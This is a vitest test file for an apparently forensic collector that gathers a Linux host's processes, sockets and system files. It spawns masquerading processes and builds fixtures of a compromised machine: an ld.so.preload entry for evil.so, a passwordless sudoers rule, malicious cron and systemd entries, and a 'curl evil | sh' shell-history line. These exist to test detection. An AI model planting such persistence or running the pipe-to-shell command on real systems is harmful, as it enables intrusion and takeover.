import { type ChildProcess, spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { copyFileSync, mkdirSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { state } from "../../../collectors/host/state.ts";
import { type Gathered, gather, lineOf, makeParent, placeAt, temporary } from "./gathering.ts";

const digest = (bytes: Uint8Array): string => createHash("sha256").update(bytes).digest("hex");

describe("the state of this machine", () => {
  const home = temporary();
  const children: ChildProcess[] = [];
  let got: Gathered;
  let processes: readonly { readonly pid: number; readonly [key: string]: unknown }[];
  let sleepBytes: Buffer;

  beforeAll(async () => {
    sleepBytes = readFileSync("/bin/sleep");
    // A deleted-but-running program, one whose name only pretends to be deleted, and one with a hostile command line.
    for (const [name, remove] of [
      ["gone", true],
      ["kept (deleted)", false],
    ] as const) {
      const path = join(home.path, name);
      copyFileSync("/bin/sleep", path);
      const child = spawn(path, ["600"], { stdio: "ignore" });
      children.push(child);
      await new Promise((resolve) => child.once("spawn", resolve));
      if (remove) unlinkSync(path);
    }
    children.push(spawn("/bin/sleep", ["600"], { argv0: "\x1b[2J[kworker/0:1]\n", stdio: "ignore", env: { HOLDFAST_TEST_SECRET: "in-the-environment" } }));
    await new Promise((resolve) => setTimeout(resolve, 200));
    got = await gather(state(placeAt("/")), home.path);
    processes = got
      .read("derived/processes.jsonl")
      .toString()
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
  });
  afterAll(() => {
    for (const child of children) child.kill("SIGKILL");
    home[Symbol.dispose]();
  });

  const found = (index: number): { readonly [key: string]: unknown } => processes.find((process) => process.pid === children[index]?.pid) ?? {};

  test("a deleted-but-running program is named, hashed, and its bytes are taken", () => {
    expect(found(0)).toMatchObject({ exeDeleted: true, exeSha256: digest(sleepBytes), exe: expect.stringMatching(/gone \(deleted\)$/), ppid: process.pid });
    expect(got.read(`deleted/${children[0]?.pid}/exe`).equals(sleepBytes)).toBe(true);
  });

  test("a program that only calls itself deleted is not believed", () => {
    expect(found(1)).toMatchObject({ exeDeleted: false, exeSha256: digest(sleepBytes) });
    expect(got.listing).not.toContain(`deleted/${children[1]?.pid}/exe`);
  });

  test("a program that poses as a kernel thread is none, and its command line is printable", () => {
    expect(found(2)).toMatchObject({ kernelThread: false, exe: expect.stringMatching(/sleep$/), arguments: ["\\u{1b}[2J[kworker/0:1]\\u{a}", "600"] });
    expect(got.read(`root/proc/${children[2]?.pid}/environ`).toString()).toBe("HOLDFAST_TEST_SECRET=in-the-environment\0");
  });

  test("our own process has its open files and its parent", () => {
    const own = processes.find((entry) => entry.pid === process.pid);
    expect(own).toMatchObject({ ppid: process.ppid, exeSha256: digest(readFileSync(process.execPath)) });
    expect(own?.["openFiles"]).toEqual(expect.arrayContaining([expect.objectContaining({ fd: 0 })]));
  });

  test.for([
    "root/proc/version",
    "root/proc/self/mountinfo",
    "root/proc/net/tcp",
    "root/proc/net/route",
    "root/etc/passwd",
    "root/etc/group",
    "root/proc/uptime",
    "root/proc/sys/kernel/tainted",
  ])("%s is a member", (name) => {
    expect(got.listing).toContain(name);
  });

  test("every member has its line with the digest of its bytes, and the manifest comes last", () => {
    expect(got.listing.at(-1)).toBe("manifest.jsonl");
    const members = got.listing.slice(0, -1);
    const lines = new Map(got.lines.filter((line) => line.member !== null).map((line) => [line.member, line]));
    expect(members.filter((member) => !lines.has(member))).toEqual([]);
    expect(new Set(members).size).toBe(members.length);
    expect(lineOf(got, "/etc/passwd")).toMatchObject({ source: "file:/etc/passwd", sha256: digest(readFileSync("/etc/passwd")), owner: "root", mode: "0644" });
  });

  test("what was looked for and is not there has a line too", () => {
    const absent = got.lines.filter((line) => line.outcome === "absent");
    expect(absent.length).toBeGreaterThan(0);
    expect(absent.every((line) => line.member === null && line.reason !== null)).toBe(true);
  });

  test("the outcome is `collected` only if nothing was refused", () => {
    const refused = got.lines.filter((line) => line.outcome === "denied");
    expect(got.report.outcome).toBe(refused.length === 0 ? "collected" : "truncated");
    const named = got.report.coverage?.gaps.map((gap) => gap.what).join("\n") ?? "";
    for (const line of refused.slice(0, 50)) expect(named).toContain(/^\/proc\/\d+/.exec(line.path)?.[0] ?? line.path);
  });
});

describe("the state of a mounted machine", () => {
  test("its users, persistence and containers are taken from files, and its names resolve owners", async () => {
    using home = temporary();
    const files = {
      "etc/passwd": "root:x:0:0::/root:/bin/sh\nmallory:x:1234:1234::/home/mallory:/bin/bash\n",
      "etc/ld.so.preload": "/lib/evil.so\n",
      "etc/sudoers.d/mallory": "mallory ALL=(ALL) NOPASSWD: ALL\n",
      "etc/systemd/system/evil.service": "[Service]\nExecStart=/tmp/x\n",
      "etc/cron.d/evil": "* * * * * root /tmp/x\n",
      "home/mallory/.ssh/authorized_keys": "ssh-ed25519 AAAA mallory\n",
      "home/mallory/.ssh/id_ed25519": "private",
      "home/mallory/.bash_history": "curl evil | sh\n",
      "var/lib/dpkg/status": "Package: x\n",
      "var/lib/docker/containers/abc/config.v2.json": "{}",
      "var/lib/docker/containers/abc/abc-json.log": "a log that may be huge",
      "proc/1/stat": "1 (in) it) S 0 1 1 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 5 0 0",
      "proc/1/status": "Name:\tinit\nUid:\t0\t0\t0\t0\n",
      "proc/1/cmdline": "/sbin/init\0--x\0",
      "proc/2/stat": "2 (kthreadd) S 0 0 0 0 -1 2129984 0 0 0 0 0 0 0 0 20 0 1 0 5 0 0",
      "proc/net/tcp": "head\n   0: 0100007F:115C 00000000:0000 0A 0:0 0:0 0  0        0 4242 1\n",
      "proc/modules": "evil 16384 0 - Live 0x0 (OE)\n",
    };
    for (const [path, text] of Object.entries(files)) writeFileSync(makeParent(join(home.path, path)), text);
    mkdirSync(join(home.path, "proc/1/fd"));
    symlinkSync("socket:[4242]", join(home.path, "proc/1/fd/3"));
    const got = await gather(state(placeAt(home.path)), home.path);
    for (const [path, text] of Object.entries(files)) {
      if (path.endsWith("id_ed25519") || path.endsWith("-json.log")) expect(got.listing).not.toContain(`root/${path}`);
      else expect(got.read(`root/${path}`).toString()).toBe(text);
    }
    const processes = got
      .read("derived/processes.jsonl")
      .toString()
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(processes).toMatchObject([
      { pid: 1, ppid: 0, kernelThread: false, arguments: ["/sbin/init", "--x"], openFiles: [{ fd: 3, target: "socket:[4242]" }] },
      { pid: 2, kernelThread: true },
    ]);
    expect(JSON.parse(got.read("derived/sockets.jsonl").toString())).toMatchObject({ local: "127.0.0.1:4444", owners: [{ pid: 1, fd: 3 }] });
  });

  test("an empty root gives nothing and says so", async () => {
    using home = temporary();
    const got = await gather(state(placeAt(home.path)), home.path);
    expect(got.report.outcome).toBe("unavailable");
    rmSync(home.path, { recursive: true, force: true });
  });
});
